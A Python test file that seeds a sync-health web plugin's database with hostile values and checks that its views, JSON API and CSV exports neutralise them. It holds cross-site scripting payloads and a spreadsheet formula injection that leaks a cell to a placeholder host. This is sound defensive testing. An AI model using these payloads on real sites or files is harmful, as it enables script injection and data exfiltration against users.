"""Values of records on the page and in its CSV: text, whatever they look like."""

import csv
import io
import json
from collections.abc import Iterator

import pytest
from browser import CHROMIUM, Browser, browser
from health_server import Server
from sqlalchemy import Engine, text

SCRIPT = '<img src=x onerror="window.hacked=1"><script>window.hacked=2</script>'
CALL = '=HYPERLINK("http://a.example/?x="&A1,"b")'
EVIL = f"{SCRIPT}' onmouseover='window.hacked=3"
PLACES = {
    "sync.link": "base = jsonb_build_object('name', :evil, 'email', :evil)",
    "sync.action": "fields = jsonb_build_object('name', jsonb_build_array(:evil, :evil)), rule = :evil, message = :evil, code = :evil",
    "sync.conflict": "salesforce_value = to_jsonb(cast(:evil as text)), app_value = to_jsonb(cast(:evil as text)), rule = :evil",
    "sync.rejection": "raw = jsonb_build_object('LastName', :evil, 'Email', :evil), reasons = jsonb_build_array(jsonb_build_object("
    "'field', :evil, 'code', :evil, 'reason', :evil))",
    "sync.batch": "run_id = :evil || id",
}
SIGNS = ("=", "+", "-", "@")  # what a spreadsheet takes for a formula begins with one of them
VIEWS = ("records", "quarantine", "conflicts")


@pytest.fixture
def page(server: Server, filled: Engine, request: pytest.FixtureRequest) -> Server:
    """The API server over a database in which every value is hostile."""
    evil = request.param
    with filled.begin() as connection:
        for table, change in PLACES.items():
            connection.execute(text(f"update {table} set {change}".replace(":evil", "cast(:evil as text)")), {"evil": evil})
    return server


@pytest.fixture
def tab() -> Iterator[Browser]:
    """A browser nobody is signed in with."""
    with browser() as opened:
        yield opened


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium (Debian: apt install chromium)")
@pytest.mark.parametrize("page", [EVIL], indirect=True, ids=["script"])
@pytest.mark.feature("ALL-12")
def test_no_view_runs_what_a_record_holds(tab: Browser, page: Server) -> None:
    tab.open(f"{page.url}/auth/login")
    tab.fill("Username", "ada")
    tab.fill("Password", page.passwords["ada"])
    tab.press("Enter")
    tab.see("Sync health")
    for view in VIEWS:
        tab.open(f"{page.url}/plugin/sync-health?integration=1&view={view}")
        tab.see("onerror")
        assert tab.run("window.hacked === undefined && document.querySelector('img[src=x]') === null"), view
    tab.run("window.hacked = 4")
    assert tab.run("window.hacked") == 4


@pytest.mark.parametrize("page", [CALL], indirect=True, ids=["formula"])
@pytest.mark.feature("ALL-20")
def test_no_cell_of_a_plan_is_a_formula(page: Server, filled: Engine) -> None:
    with filled.connect() as connection:
        plan = connection.scalar(text("select max(id) from sync.batch where integration_id = 1 and mode = 'plan'"))
    answer = page.get("vera", f"api/integrations/1/plans/{plan}/csv")
    answer.encoding = "utf-8-sig"
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert len(rows) > 3
    assert any(CALL in cell for row in rows[1:] for cell in row)
    assert [cell for row in rows for cell in row if cell.strip(' "').startswith(SIGNS)] == []


@pytest.mark.parametrize("page", [EVIL], indirect=True, ids=["script"])
@pytest.mark.feature("ALL-12")
def test_answers_are_json_that_no_browser_takes_for_a_page(page: Server) -> None:
    for path in ("records", "rejections", "conflicts", "plans"):
        answer = page.get("vera", f"api/integrations/1/{path}")
        assert answer.headers["content-type"].startswith("application/json")
        assert "onerror" in json.dumps(answer.json())
